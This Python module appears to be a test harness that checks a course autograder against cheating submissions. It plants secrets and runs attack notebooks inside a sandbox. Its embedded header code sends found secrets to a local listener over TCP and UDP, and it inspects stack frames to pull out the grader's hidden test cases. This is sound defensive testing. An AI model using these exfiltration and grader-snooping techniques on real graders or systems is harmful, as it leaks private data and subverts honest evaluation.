"""The world that attacks are let loose on: planted secrets, a listener, places where loot may be left."""

from __future__ import annotations

import contextlib
import ctypes
import os
import secrets
import shutil
import socket
import sqlite3
import subprocess
import sysconfig
import uuid
import zlib
from functools import cached_property
from pathlib import Path
from typing import Any

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

import attention_lab
from autograder.lessons.sizes import odd_sides
from tests.classroom.pupils import FULL, GRADE_IDS, NOTHING, PWN, ROOT, SOLVED, Pupil, find, notebook_of

from .tables import Attack
from .traces import Listener

ENVIRONMENT = "ADVERSARIAL_SECRET"  # a variable of whoever grades
GUESSABLE = "attention-2026"  # the seed of the unprotected control: a name and a year

LIBRARIES = ("purelib", "platlib", "stdlib")
INVALIDATE = (250, 21)  # keyctl on x86_64, and what it is to do

# What an attacker would have to find out, and a way to hand on what was found by every door there is.
HEADER = '''import ctypes
import gc
import json
import os
import re
import signal
import socket
import struct
import subprocess
import sys
import threading
import time

import torch

{names}
FOUND = []
libc = ctypes.CDLL(None)


def tell(*found):
    text = " ".join(map(str, found))
    FOUND.append(text[-300:])
    def by_tcp():
        with socket.create_connection(("127.0.0.1", PORT), 2) as s:
            s.sendall(text.encode())
    def by_udp():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(text.encode()[:5000], ("127.0.0.1", PORT))
    for door in (lambda: print(text), lambda: open(LOOT, "a").write(text), by_tcp, by_udp):
        try:
            door()
        except Exception:
            pass


def attempt(action, *arguments):
    """What an attacker does who does not know which of many ways is open."""
    try:
        return action(*arguments)
    except Exception:
        return None


def case_nearby():
    """The hidden case that is being asked, if whoever asks can be seen from here."""
    frame = sys._getframe(1)
    while frame:
        for value in list(frame.f_locals.values()):
            if hasattr(value, "expected_tensors"):
                return value
        frame = frame.f_back
    raise LookupError("nobody asks")


def observers():
    """Whatever is observing this exercise, if it can be seen from here."""
    frame = sys._getframe(1)
    while frame := frame.f_back:
        if hasattr(frame.f_locals.get("self"), "header"):
            yield frame.f_locals["self"]
'''


class World:
    """Secrets in all the places where graders keep them, for the time of the tests. Use as a context manager.

    gradebook, other: of the class; without them the world has its own. seed: what hidden cases are drawn from. kept: a
    folder in the repository for secrets, if it is not to be made.
    """

    def __init__(self, folder: Path, seed: str = "", kept: str = ""):
        self.token = secrets.token_hex(6)
        self.folder = folder / f"world-{self.token}"
        self.loot, self.scratch = self.folder / "loot", self.folder / "tmp"
        # in the repository, where no notebook of a learner belongs
        self.kept = Path(kept or ROOT / "work") / f"adversarial-{self.token}"
        self.home = Path.home() / f".adversarial-{self.token}"
        places = ("reference", "home", "environment", "other", "gradebook", "seed")
        self.secrets = {place: f"planted-{uuid.uuid4().hex}" for place in places}
        if seed:
            self.secrets["seed"] = seed
        # words in autograder/lessons/sizes.py
        self.secrets["hidden cases"] = str(odd_sides.__doc__)
        self.gradebook, self.other = self.kept / "gradebook.db", self.kept / "other.ipynb"

    def __enter__(self) -> World:
        for folder in (self.loot, self.scratch, self.kept / "library/timm"):
            folder.mkdir(parents=True)
        (self.kept / "reference.py").write_text(f"# {self.secrets['reference']}\n")
        (self.kept / "seed").write_text(self.secrets["seed"] + "\n")
        timm = f"import sys\nsys.path.append({str(ROOT)!r})\nfrom solutions.se.reference import *\n"
        (self.kept / "library/timm/__init__.py").write_text(timm)
        self.home.write_text(self.secrets["home"])
        nbformat.write(notebook_of(self.ada), self.other)
        with contextlib.closing(sqlite3.connect(self.gradebook)) as db, db:
            db.execute("CREATE TABLE student (id TEXT, last_name TEXT)")
            db.execute("INSERT INTO student VALUES ('ada', ?)", (self.secrets["gradebook"],))
        self.listener = Listener(self.folder)
        self.about = {path: _about(path) for path in (self.kept / "reference.py", self.kept / "seed")}
        return self

    def __exit__(self, *_) -> None:
        self.listener.close()
        self.home.unlink()
        shutil.rmtree(self.kept)
        subprocess.run(["rm", "-rf", self.folder], check=True)  # shutil cannot climb the deepest of trees

    @cached_property
    def ada(self) -> Pupil:
        """Everything right; what she wrote, and her name in the gradebook, are nobody else's business."""
        return Pupil("ada", "everything right", FULL, {"squeeze": SOLVED["squeeze"] + f"# {self.secrets['other']}\n"},
                     last_name=self.secrets["gradebook"])

    def marker(self, attack: Attack) -> str:
        """Stands in the command line or name of whatever an attack starts or makes."""
        return f"mark-{self.token}-{attack.name}"

    def constants(self, attack: Attack) -> dict[str, Any]:
        paths = {"ROOT": ROOT, "SECRET": self.kept / "reference.py", "HOME_SECRET": self.home,
                 "SEED": self.kept / "seed",
                 "LIBRARY": self.kept / "library", "GRADEBOOK": self.gradebook, "OTHER": self.other,
                 "LOOT": self.loot / attack.name,
                 "LISTENER": self.listener.path}
        return {**{name: str(path) for name, path in paths.items()}, "PORT": self.listener.port,
                "MARKER": self.marker(attack)}

    def header(self, attack: Attack) -> str:
        return HEADER.format(names="\n".join(f"{name} = {value!r}" for name, value in self.constants(attack).items()))

    def pupil(self, attack: Attack) -> Pupil:
        """Whoever hands the attack in."""
        def edit(notebook: NotebookNode) -> None:
            saved_with_nothing(notebook)
            before = [new_code_cell(self.header(attack), id="header")]
            before += [new_code_cell(attack.sections["first"], id="first")] if "first" in attack.sections else []
            notebook.cells[:0] = before
            if "last" in attack.sections:
                notebook.cells.append(new_code_cell(attack.sections["last"], id="last"))
            if "notebook" in attack.sections:
                tools = {"nb": notebook, "find": find, "new_code_cell": new_code_cell,
                         "new_markdown_cell": new_markdown_cell,
                         "new_raw_cell": new_raw_cell, "new_output": new_output, "GRADE_IDS": GRADE_IDS, "PWN": PWN,
                         "checks": [find(notebook, f"{grade_id}-check") for grade_id in GRADE_IDS.values()]}
                exec(attack.sections["notebook"], {**tools, **self.constants(attack)})
        return Pupil(attack.name, attack.what, NOTHING, attack.answers, edit)

    def furnish(self, attack: Attack, folder: Path) -> None:
        """Do to the folder that is handed in what the attack does to it."""
        if "folder" in attack.sections:
            exec(attack.sections["folder"], {"folder": folder, "os": os, "socket": socket, **self.constants(attack)})

    def given_away(self, text: str) -> list[str]:
        """The places whose secret stands in `text`."""
        return [place for place, secret in self.secrets.items() if secret in text]

    def taken(self, attack: Attack) -> str:
        """What an attack wrote where it was told to leave its loot."""
        path = self.loot / attack.name
        return path.read_text(errors="replace") if path.is_file() else ""

    def heard(self) -> str:
        return self.listener.heard.decode(errors="replace")

    def left_behind(self, attack: Attack) -> list[str]:
        """Files of the attack's making where no submission may make any."""
        library = Path(attention_lab.__file__).parent
        places = (Path("/tmp"), Path("/dev/shm"), Path("/var/tmp"), Path.home(), ROOT, ROOT / "work", self.kept,
                  self.folder, self.loot,
                  library, library / "__pycache__", ROOT / ".git/hooks",
                  *map(Path, {sysconfig.get_path(name) for name in LIBRARIES}))
        found = [str(path) for place in places if place.is_dir() for path in place.glob(f"*{self.marker(attack)}*")]
        return found + [str(path) for path in [self.loot / attack.name] if path.exists()]

    def notes(self, attack: Attack) -> list[str]:
        """What the attack left for the next one to read, in no file of its own: what is known about files, and in
        the kernel."""
        found = [f"{path.name}: its mode or time was changed" for path, about in self.about.items()
                 if _about(path) != about]
        name = f"user.{self.marker(attack)}"
        found += [f"an attribute of {path}" for path in self._with_attributes() if name in os.listxattr(path)]
        found += ["a key in the keyring"] * (self.marker(attack) in _read("/proc/keys"))
        return found + ["a message queue"] * any(line.split()[0] == str(self._queue(attack)) for line in
                                                 _read("/proc/sysvipc/msg").splitlines())

    def _with_attributes(self) -> list[str]:
        return [attention_lab.__file__, "/tmp", str(self.kept / "reference.py")] if hasattr(os, "listxattr") else []

    def _queue(self, attack: Attack) -> int:
        return zlib.crc32(self.marker(attack).encode()) & 0x7FFFFFFF

    def clear(self, attack: Attack) -> None:
        for path in self.left_behind(attack):
            subprocess.run(["rm", "-rf", path], check=True)
        if not self.notes(attack):
            return
        for path, (mode, time) in self.about.items():
            path.chmod(mode)
            os.utime(path, ns=(time, time))
        for path in self._with_attributes():
            if f"user.{self.marker(attack)}" in os.listxattr(path):
                os.removexattr(path, f"user.{self.marker(attack)}")
        for line in _read("/proc/keys").splitlines():
            if self.marker(attack) in line:
                ctypes.CDLL(None).syscall(INVALIDATE[0], INVALIDATE[1], int(line.split()[0], 16))
        libc = ctypes.CDLL(None)
        if (queue := libc.msgget(self._queue(attack), 0)) >= 0:
            libc.msgctl(queue, 0, None)


def _about(path: Path) -> tuple[int, int]:
    about = path.stat()
    return about.st_mode & 0o7777, about.st_mtime_ns


def _read(path: str) -> str:
    return Path(path).read_text() if os.path.exists(path) else ""


def honest_pupil(attack: Attack) -> Pupil:
    return Pupil("honest", "the same answers without the trick", NOTHING, attack.honest, saved_with_nothing)


def saved_with_nothing(notebook: NotebookNode) -> None:
    """The checks as a learner saves them who has no point."""
    for grade_id in GRADE_IDS.values():
        find(notebook, f"{grade_id}-check").outputs = [new_output("execute_result", {"text/plain": "0.0"},
                                                                  execution_count=1)]
